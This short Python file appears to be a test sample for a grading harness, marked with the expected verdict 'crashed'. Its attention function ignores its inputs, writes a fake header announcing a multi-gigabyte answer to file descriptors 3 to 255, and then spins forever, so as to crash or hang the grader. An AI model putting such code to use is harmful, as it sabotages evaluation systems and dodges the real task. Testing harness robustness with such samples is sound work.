# verdict: crashed
"""Announces an answer of many gigabytes."""

import os
import struct


def attention(q, k, v):
    for descriptor in range(3, 256):
        try:
            os.write(descriptor, struct.pack(">IQ", 100, 1 << 62))
        except OSError:
            pass
    while True:
        pass
